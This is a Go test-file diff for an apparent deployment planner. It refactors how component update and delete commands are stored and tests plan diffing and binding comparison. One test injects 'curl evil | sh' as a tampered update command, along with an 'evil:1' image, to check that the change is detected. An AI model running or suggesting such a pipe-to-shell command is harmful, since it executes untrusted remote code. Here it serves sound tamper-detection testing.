@@ -68,7 +68,7 @@ func TestBuildActions(t *testing.T) {
 			t.Errorf("%s diffs (-want +got):\n%s", addr, diff)
 		}
 	}
-	if g := got["app/gone"]; g.Prior != st.Resources["app/gone"] || g.Config != nil || g.Kind != "Command" || g.Command != nil {
+	if g := got["app/gone"]; g.Prior != st.Resources["app/gone"] || g.Config != nil || g.Kind != "Command" || g.Settings != nil {
 		t.Errorf("delete step = %+v", g)
 	}
 	if g := got["app/changed"]; g.Prior != st.Resources["app/changed"] || g.Config["scaling"] == nil {
@@ -81,7 +81,7 @@ func TestBuildWithoutStateCreatesEverything(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if p.Serial != 0 || p.Lineage != "" || p.Summary.Create != 1 || p.Steps[0].Config == nil || p.Steps[0].Command == nil {
+	if p.Serial != 0 || p.Lineage != "" || p.Summary.Create != 1 || p.Steps[0].Config == nil || p.Steps[0].Settings == nil {
 		t.Errorf("plan = %+v, step %+v", p, p.Steps[0])
 	}
 	empty, _ := Build(desired(), nil, Options{})
@@ -225,7 +225,7 @@ func TestCommandsAreDiffedAndDeletesSayWhatRuns(t *testing.T) {
 		return r
 	}
 	site := comp("web/site", "Command", map[string]any{})
-	site.Command.Update = "./update.sh v2"
+	site.Settings["command"]["update"] = "./update.sh v2"
 	legacy := comp("web/legacy", "Command", map[string]any{})
 	d := desired(comp("web/new", "Command", map[string]any{}), site, legacy)
 	oldLegacy := res("Command", map[string]any{})
@@ -268,8 +268,8 @@ func TestCommandsAreDiffedAndDeletesSayWhatRuns(t *testing.T) {
 	}
 
 	// Only the delete command changed: an update that records it and runs nothing.
-	site.Command.Update = "./update.sh v1"
-	site.Command.Delete = "./delete.sh --force"
+	site.Settings["command"]["update"] = "./update.sh v1"
+	site.Settings["command"]["delete"] = "./delete.sh --force"
 	p, err = Build(desired(site), state(map[string]*statestore.Resource{"web/site": st.Resources["web/site"]}), Options{Now: fixedNow})
 	if err != nil {
 		t.Fatal(err)
@@ -282,7 +282,7 @@ func TestCommandsAreDiffedAndDeletesSayWhatRuns(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if r := p.Steps[0].Runs; r == nil || *r != "./old-delete.sh" || p.Steps[0].Command.Delete != "./old-delete.sh" {
+	if r := p.Steps[0].Runs; r == nil || *r != "./old-delete.sh" || p.Steps[0].Settings["command"]["delete"] != "./old-delete.sh" {
 		t.Errorf("legacy delete: runs %v, want ./old-delete.sh", r)
 	}
 }
@@ -347,12 +347,12 @@ func TestBindDigestsSecretsAndCompareNamesTheFirstDifference(t *testing.T) {
 	}
 	c2 := comp("web/site", "Command", config.DeepCopy(c.Config))
 	c2.Secrets = c.Secrets
-	c2.Command.Update = "curl evil | sh"
+	c2.Settings["command"]["update"] = "curl evil | sh"
 	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
 		d.String() != `services.web.components.site.command.update: planned (absent), now "curl evil | sh"` {
 		t.Errorf("first difference = %v", d)
 	}
-	c2.Command.Update = ""
+	delete(c2.Settings["command"], "update")
 	c2.Config["db_password"], c2.Config["image"] = "other", "evil:1"
 	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
 		d.String() != `services.web.components.site.config.db_password: planned (sensitive), now (sensitive)` {
